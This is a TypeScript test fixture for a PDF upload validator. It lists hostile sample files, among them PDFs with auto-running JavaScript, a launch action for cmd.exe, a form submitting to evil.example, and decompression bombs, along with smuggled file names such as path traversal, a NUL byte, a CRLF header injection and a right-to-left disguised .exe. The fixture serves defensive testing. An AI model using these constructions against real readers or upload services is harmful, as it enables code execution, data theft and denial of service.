import { deflateSync } from 'node:zlib';
import type { ProblemCode } from '../../src/contract/problem.ts';
import { makePdf } from '../shop/pdfs.ts';
import {
  ONE_PAGE,
  type RawObject,
  objectStream,
  packed,
  rawPdf,
  withCatalog,
  withPage,
} from './raw-pdf.ts';

export type BadFile = {
  readonly what: string;
  readonly bytes: () => Promise<Uint8Array<ArrayBuffer>> | Uint8Array<ArrayBuffer>;
  readonly code: ProblemCode;
  readonly status: number;
  /** A part of what the owner reads. */
  readonly says: string | RegExp;
};

const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, ...Array(100).fill(7)]);
const text = (words: string) => new Uint8Array(Buffer.from(words, 'latin1'));

const MEBIBYTE = 1024 * 1024;
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const ATTACHED = '<< /Type /Filespec /F (a.txt) /EF << /F 5 0 R >> >>';
const JAVASCRIPT = 'JavaScript';
const ADDRESS = '<< /S /URI /URI (https://x.example) >>';
const ON_ITS_OWN = 'on its own';

const cut = async (share: number) => {
  const bytes = await makePdf({ pages: 20, packed: false });
  return bytes.slice(0, Math.floor(share * bytes.byteLength));
};

const active = (what: string, objects: readonly RawObject[], says: string): BadFile => ({
  what: `a PDF with ${what}`,
  bytes: () => rawPdf(objects),
  code: 'pdf_active_content',
  status: 422,
  says,
});

const annotation = (entries: string): string => `<< /Type /Annot /Rect [0 0 9 9] ${entries} >>`;

const ACTIVE: readonly BadFile[] = [
  active('a script that runs when it opens', withCatalog(`/OpenAction ${SCRIPT}`), JAVASCRIPT),
  active(
    'a script among its names',
    withCatalog('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', SCRIPT),
    JAVASCRIPT,
  ),
  active(
    'a script that runs when it is printed',
    withCatalog(`/AA << /WP ${SCRIPT} >>`),
    ON_ITS_OWN,
  ),
  active(
    'a script on a link',
    withPage('/Annots [4 0 R]', annotation(`/Subtype /Link /A ${SCRIPT}`)),
    JAVASCRIPT,
  ),
  active(
    'a script behind a harmless action',
    withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >>', SCRIPT),
    ON_ITS_OWN,
  ),
  active(
    'a script under an escaped name',
    withCatalog('/OpenAction << /S /J#61va#53cript /#4a#53 (x) >>'),
    JAVASCRIPT,
  ),
  active(
    'a script that is packed away',
    withCatalog('', objectStream(new Map([[9, SCRIPT]]))),
    JAVASCRIPT,
  ),
  active('a script that nothing refers to', [...ONE_PAGE, SCRIPT], JAVASCRIPT),
  active(
    'a script in the dictionary of a stream',
    [...ONE_PAGE, packed('x', `/A ${SCRIPT}`)],
    JAVASCRIPT,
  ),
  active(
    'a link that starts a program',
    withPage('/Annots [4 0 R]', annotation('/Subtype /Link /A << /S /Launch /F (cmd.exe) >>')),
    'starts a program',
  ),
  active(
    'a form that is sent away',
    withCatalog('/OpenAction << /S /SubmitForm /F (https://evil.example) >>'),
    'sends what is typed',
  ),
  active(
    'a form that is a program',
    withCatalog('/AcroForm << /XFA 4 0 R /Fields [] >>', packed('<xdp/>')),
    'a form that is a program',
  ),
  active(
    'data to import',
    withCatalog('/OpenAction << /S /ImportData /F (a.fdf) >>'),
    'reads files',
  ),
  active('a link into an attachment', withCatalog('/OpenAction << /S /GoToE >>'), 'attached file'),
  active(
    'an embedded file',
    withCatalog(
      '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
      ATTACHED,
      packed('hello', '/Type /EmbeddedFile'),
    ),
    'other files attached',
  ),
  active(
    'a file on a page',
    withPage('/Annots [4 0 R]', annotation('/Subtype /FileAttachment')),
    'other files attached',
  ),
  ...['RichMedia', 'Movie', 'Sound', 'Screen', '3D'].map((kind) =>
    active(`a ${kind}`, withPage('/Annots [4 0 R]', annotation(`/Subtype /${kind}`)), 'multimedia'),
  ),
  ...['Movie', 'Sound', 'Rendition'].map((kind) =>
    active(
      `a link that plays a ${kind}`,
      withPage('/Annots [4 0 R]', annotation(`/Subtype /Link /A << /S /${kind} >>`)),
      'multimedia',
    ),
  ),
  active('an address to open on its own', withCatalog(`/OpenAction ${ADDRESS}`), ON_ITS_OWN),
  active('an address that is referred to', withCatalog('/OpenAction 4 0 R', ADDRESS), ON_ITS_OWN),
  active(
    'an address behind a place to begin at',
    withCatalog(`/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${ADDRESS} >>`),
    ON_ITS_OWN,
  ),
  active('an address to open with a page', withPage(`/AA << /O ${ADDRESS} >>`), ON_ITS_OWN),
];

/** So many bytes of nothing, packed: each kilobyte becomes a megabyte. */
const nothing = (mebibytes: number) => packed(Buffer.alloc(mebibytes * MEBIBYTE));

/** As much of a JPEG as tells its size. */
const jpegHead = (width: number, height: number): Uint8Array => {
  const head = Buffer.from('ffd8ffe000040000ffc0000b08000000000101110000', 'hex');
  head.writeUInt16BE(height, 13);
  head.writeUInt16BE(width, 15);
  return head;
};

const bomb = (what: string, bytes: () => Uint8Array<ArrayBuffer>): BadFile => ({
  what: `a bomb: ${what}`,
  bytes,
  code: 'pdf_too_dense',
  status: 422,
  says: /^(The|One|A) /,
});

const BOMBS: readonly BadFile[] = [
  bomb('a picture of 90,000 by 90,000', () =>
    rawPdf([...ONE_PAGE, packed('x', '/Subtype /Image /Width 90000 /Height 90000')]),
  ),
  bomb('a mask of 90,000 by 90,000', () =>
    rawPdf([...ONE_PAGE, packed('x', '/Width 90000 /Height 90000')]),
  ),
  bomb('140 pictures that are all one color', () => {
    const picture = packed('x', '/Subtype /Image /Width 8000 /Height 8000');
    return rawPdf([...ONE_PAGE, ...Array<RawObject>(140).fill(picture)]);
  }),
  bomb('a photograph of 49 million pixels', () => {
    const dict = '/Subtype /Image /Width 7000 /Height 7000 /Filter /DCTDecode';
    return rawPdf([...ONE_PAGE, { dict, data: jpegHead(7000, 7000) }]);
  }),
  bomb('a long run', () => {
    const data = new Uint8Array(3 * MEBIBYTE);
    return rawPdf([...ONE_PAGE, { dict: '/Filter /RunLengthDecode', data }]);
  }),
  bomb('packed behind text', () => {
    const data = Buffer.from(deflateSync(Buffer.alloc(140 * MEBIBYTE)).toString('hex') + '>');
    return rawPdf([...ONE_PAGE, { dict: '/Filter [/ASCIIHexDecode /FlateDecode]', data }]);
  }),
  bomb('a stream of objects', () => {
    const stream = packed(Buffer.alloc(40 * MEBIBYTE, ' '), '/Type /ObjStm /N 1 /First 4');
    return rawPdf([...ONE_PAGE, stream]);
  }),
  bomb('objects without number', () =>
    rawPdf([...ONE_PAGE, ...Array<RawObject>(100_000).fill('1')]),
  ),
  bomb('values without number', () => rawPdf([...ONE_PAGE, `[${'0 '.repeat(2_100_000)}]`])),
  bomb('a word without an end', () => rawPdf([...ONE_PAGE, `(${'x'.repeat(2 * MEBIBYTE)})`])),
];

const broken = (what: string, bytes: BadFile['bytes'], says = 'export it again'): BadFile => ({
  what,
  bytes,
  code: 'pdf_broken',
  status: 422,
  says,
});

const STREAM = packed('x').data;

/** What readers unpack each in its own way, or what few know. */
const UNUSUAL: readonly BadFile[] = (
  [
    ['two layers', '/Filter [/FlateDecode /FlateDecode]'],
    ['layers with text between', '/Filter [/FlateDecode /ASCIIHexDecode /FlateDecode]'],
    ['two texts', '/Filter [/ASCIIHexDecode /ASCII85Decode]'],
    ['runs in layers', '/Filter [/FlateDecode /RunLengthDecode]'],
    ['a short name', '/Filter /Fl'],
    ['a way of old', '/Filter /LZWDecode'],
    ['a way that nobody knows', '/Filter /Foo'],
    ['a name elsewhere', '/Filter 5 0 R'],
    ['a name elsewhere in a list', '/Filter [5 0 R]'],
    ['a fax that is no picture', '/Filter /CCITTFaxDecode'],
    ['a fax of other columns', '/Filter /CCITTFaxDecode /Width 9 /Height 9'],
    ['JPEG 2000', '/Filter /JPXDecode /Width 9 /Height 9'],
    ['JBIG2', '/Filter /JBIG2Decode /Width 9 /Height 9'],
    ['a JPEG of another size', '/Filter /DCTDecode /Width 9 /Height 9'],
    ['a width elsewhere', '/Subtype /Image /Width 5 0 R /Height 9'],
    ['a picture without a width', '/Subtype /Image /Height 9'],
    ['rows elsewhere', '/Filter /FlateDecode /DecodeParms << /Columns 5 0 R >>'],
    ['rows without an end', '/Filter /FlateDecode /DecodeParms << /Columns 1000000000 >>'],
    ['more parameters than filters', '/Filter /FlateDecode /DecodeParms [null null]'],
    ['bytes in another file', '/F (a.txt)'],
    ['a short key', '/W 90000 /H 90000'],
  ] as const
).map(([what, dict]) =>
  broken(
    `a stream packed with ${what}`,
    () => rawPdf([...ONE_PAGE, { dict, data: STREAM }, '/FlateDecode']),
    'out of use',
  ),
);

const DAMAGED: readonly BadFile[] = [
  broken('a stream that breaks off', () => {
    const { dict, data } = nothing(1);
    return rawPdf([...ONE_PAGE, { dict, data: data.subarray(0, -9) }]);
  }),
  broken('a stream with more behind its end', () => {
    const { dict, data } = nothing(1);
    return rawPdf([...ONE_PAGE, { dict, data: Buffer.concat([data, data]) }]);
  }),
  broken('text in a stream that is none', () =>
    rawPdf([...ONE_PAGE, { dict: '/Filter /ASCII85Decode', data: Buffer.from('\x80~>') }]),
  ),
];

const manyPages = (count: number): Uint8Array<ArrayBuffer> => {
  const kids = Array.from({ length: count }, (_, n) => `${n + 3} 0 R`).join(' ');
  const pages = Array<string>(count).fill(ONE_PAGE[2]);
  return rawPdf([ONE_PAGE[0], `<< /Type /Pages /Kids [${kids}] /Count 1 >>`, ...pages]);
};

/** Every kind of file that no buyer may ever get, and why. */
export const BAD_FILES: readonly BadFile[] = [
  {
    what: 'a renamed PNG',
    bytes: () => PNG,
    code: 'file_not_pdf',
    status: 415,
    says: 'Please upload a PDF file.',
  },
  {
    what: 'an empty file',
    bytes: () => new Uint8Array(),
    code: 'file_empty',
    status: 422,
    says: 'empty',
  },
  broken('an HTML page with the header of a PDF', () =>
    text('%PDF-1.7\n<html><script>alert(1)</script></html>'),
  ),
  broken('an HTML page with header and end of a PDF', () =>
    text('%PDF-1.7\n<html><script>alert(1)</script></html>\nstartxref\n9\n%%EOF'),
  ),
  ...[0.02, 0.3, 0.7, 0.99].map((share) =>
    broken(`a PDF cut off at ${share * 100} %`, () => cut(share)),
  ),
  broken('a PDF without pages', () =>
    rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] >>']),
  ),
  broken('a PDF whose pages go round in a circle', () =>
    rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] >>']),
  ),
  broken('a PDF nested too deeply to read', () => rawPdf([...ONE_PAGE, '['.repeat(200_000)])),
  {
    what: 'an encrypted PDF',
    bytes: () =>
      makePdf({}, (document) => document.encrypt({ userPassword: 'a', ownerPassword: 'b' })),
    code: 'pdf_encrypted',
    status: 422,
    says: 'protected',
  },
  {
    what: 'a PDF that only its owner may change',
    bytes: () => makePdf({ packed: false }, (document) => document.encrypt({ ownerPassword: 'b' })),
    code: 'pdf_encrypted',
    status: 422,
    says: 'protected',
  },
  {
    what: 'a PDF of 5,000 pages',
    bytes: () => manyPages(5000),
    code: 'pdf_too_many_pages',
    status: 422,
    says: '5000 pages',
  },
  {
    what: 'a PDF that shows one page 2^40 times',
    bytes: () =>
      rawPdf([
        ONE_PAGE[0],
        ...Array.from(
          { length: 40 },
          (_, n) => `<< /Type /Pages /Kids [${n + 3} 0 R ${n + 3} 0 R] /Count 1 >>`,
        ),
        '<< /Type /Page >>',
      ]),
    code: 'pdf_too_many_pages',
    status: 422,
    says: '1099511627776 pages',
  },
  {
    what: 'a PDF of 19 MB',
    bytes: () => rawPdf([...ONE_PAGE, { dict: '', data: new Uint8Array(19 * MEBIBYTE) }]),
    code: 'file_too_large',
    status: 413,
    says: 'MB',
  },
  broken('a PDF that says another number of pages than it has', () => manyPages(4)),
  ...ACTIVE,
  ...BOMBS,
  ...UNUSUAL,
  ...DAMAGED,
];

/** Names that a file may have had, and none of them is kept. */
export const BAD_NAMES: readonly (readonly [what: string, name: string])[] = [
  ['a way up', '../../Money-Smart-Kids-Ages-6-10.pdf'],
  ['a way up of Windows', '..\\guide.pdf'],
  ['a NUL', 'guide.pdf\0.png'],
  ['a line feed', 'guide\n.pdf'],
  ['a carriage return', 'guide\r\nset-cookie: a=b.pdf'],
  ['300 characters', `${'x'.repeat(296)}.pdf`],
  ['a mark that turns what follows around', 'guide\u202efdp.exe'],
  ['nothing but a blank', ' '],
  ['nothing at all', ''],
];
